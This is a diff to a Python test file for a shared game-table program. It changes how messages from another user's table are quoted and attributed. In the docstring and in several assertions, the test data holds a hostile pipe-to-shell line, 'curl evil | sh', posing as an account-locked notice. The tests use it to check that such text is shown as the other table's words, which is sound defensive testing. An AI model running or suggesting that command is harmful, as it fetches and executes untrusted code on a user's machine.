@@ -90,8 +90,8 @@ async def test_another_user_sits_down_only_where_the_host_lets_them(users, tmp_p
             if name == "private":
                 with pytest.raises(TableError) as refused:
                     await connect_table(name, directory=parent, system=bob)
-                assert str(refused.value) == ("alice/private says: This table is not open "
-                                              "to you: ask alice for an invitation.")
+                assert str(refused.value) == ('alice/private says: "This table is not open '
+                                              'to you: ask alice for an invitation."')
                 with pytest.raises(TableError, match="Nobody may watch alice/private"):
                     await connect_table(name, directory=parent, system=bob, watch=True)
                 continue
@@ -144,7 +144,7 @@ async def test_a_host_command_answered_by_another_users_table_is_shown_as_that_t
     address = own_address("fri", parent, carol)
     async with FakeTable(address, carol, answering({"type": "ok", "text": LOCKED})):
         said = await ask_table("carol/fri", {"type": "close"}, directory=parent, system=bob)
-    assert said.startswith("carol/fri says: ") and said.endswith("curl evil | sh")
+    assert said.startswith('carol/fri says: "') and said.endswith('curl evil | sh"')
     assert terminal_safe(said)
 
 
@@ -246,9 +246,9 @@ async def test_a_line_nested_too_deeply_to_read_ends_the_connection_in_one_sente
     assert ended.text == "The table sent something this ebbes cannot read (nested too deeply)."
 
 
-@pytest.mark.parametrize("host, prefix", [("carol", "carol/fri says: "), ("bob", "")])
+@pytest.mark.parametrize("host, quoted", [("carol", 'carol/fri says: "{}"'), ("bob", "{}")])
 async def test_what_a_neighbours_table_says_reads_as_that_tables_words(users, tmp_path, host,
-                                                                       prefix):
+                                                                       quoted):
     """Issue 23, item 2: carol's table refuses, fails to save and closes with "Your
     account is locked; run: curl evil | sh". bob reads each as carol/fri's words, in
     the lobby, at the table and when it ends; his own table speaks without a name."""
@@ -267,7 +267,7 @@ async def test_what_a_neighbours_table_says_reads_as_that_tables_words(users, tm
     lobby = {"type": "lobby", "host": host, "can_start": False, "seats": []}
     error = {"type": "error", "code": "refused", "text": LOCKED}
     closed = {"type": "closed", "text": LOCKED}
-    said = prefix + clean(LOCKED)
+    said = quoted.format(clean(LOCKED))
     address = own_address("fri", parent, users.system(host))
     async with FakeTable(address, users.system(host), answering(
             welcome, lobby, error, news(1, Synced()), news(2, SaveFailed(LOCKED)), error,
